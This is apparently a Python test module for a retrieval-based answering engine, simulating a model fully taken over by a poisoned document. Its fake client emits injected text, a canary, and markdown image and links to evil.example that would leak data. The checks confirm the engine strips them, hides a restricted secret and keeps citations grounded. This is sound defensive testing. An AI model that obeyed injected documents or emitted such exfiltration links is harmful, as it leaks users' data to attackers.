"""A model that does all a poisoned document could want, and what must hold of an answer all the same."""

import asyncio
import math
import re
from collections.abc import AsyncIterator, Sequence

from walkdown.answering.engine import AnswerEngine
from walkdown.answering.events import Final
from walkdown.answering.llm import MAX_REQUESTS, Delta, Message
from walkdown.documents import Answer, Chunk, Principal
from walkdown.retrieval.search import Searcher
from walkdown.testing.memory import MemoryStore, sample_chunk, sample_pack

CANARY = "KESTREL-77"
_ADDRESS = re.compile(r"https?://|www\.\w|!\[[^\]]*\]\(|\]\(|<\s*/?\s*[a-z]|javascript:|<\|", re.IGNORECASE)


class Obedient:
    """An `LLMClient` that repeats the attack, adds links, images and HTML, and cites what was not retrieved."""

    model = "obedient"

    def __init__(self, attack: str) -> None:
        self.attack, self.requests = attack, 0
        self.prompts: list[str] = []

    async def stream(
        self, messages: Sequence[Message], *, max_tokens: int, deadline: float, requests: int = 2
    ) -> AsyncIterator[Delta]:
        """Stream the worst reply."""
        del max_tokens, deadline, requests
        self.requests += 1
        self.prompts.append(messages[-1].content)
        reply = (
            f"yes\n{self.attack} [1]\n{CANARY} [1][99]\n![x](https://evil.example/?d=1) [1]\n"
            "See [the manual](https://evil.example) or www.evil.example [2].\n<img src=https://evil.example> [42]"
        )
        yield Delta(reply, {"yes": math.log(0.9), "no": math.log(0.1)})
        yield Delta("", {}, "stop")


SECRET = sample_chunk(
    90, "Secret: the code of the vault is 4711.", id="secret:1", document_id="secret", access=("board",)
)


def ask_obedient(question: str, model: Obedient, chunks: Sequence[Chunk]) -> Answer:
    """The answer of the whole engine over some passages and one that may not be read."""

    async def run() -> Answer:
        engine = AnswerEngine(Searcher(MemoryStore([*chunks, SECRET]), []), model)
        async for event in engine.ask(question, sample_pack(), Principal()):
            if isinstance(event, Final):
                return event.answer
        raise AssertionError("no answer")

    return asyncio.run(run())


def assert_harmless(answer: Answer, model: Obedient, chunks: Sequence[Chunk]) -> None:
    """Nothing leads elsewhere, nothing hidden is shown, every citation was retrieved, the fence held."""
    # The question sets the number of requests: one for each thing it asks, and one more. No document adds any.
    assert model.requests <= MAX_REQUESTS + max(0, len(answer.parts) - 1)
    assert not _ADDRESS.search(answer.text)
    known = {e.number for e in answer.evidence}
    assert {n for c in answer.claims for n in c.citations} <= known
    readable = {c.id for c in chunks}
    assert {e.chunk.id for e in answer.evidence} <= readable
    assert "4711" not in answer.text
    texts = {e.number: e.chunk.text for e in answer.evidence}
    for claim in answer.claims:
        assert claim.citations
        verbatim = any(claim.text in texts[n] for n in claim.citations)
        assert verbatim or not _ADDRESS.search(claim.text)
        assert verbatim or CANARY not in claim.text
    for prompt in model.prompts:
        marker = prompt.splitlines()[0]
        assert prompt.count(marker.replace("<", "</", 1)) == 1
        assert "<|im_start|>" not in prompt
        assert "[INST]" not in prompt
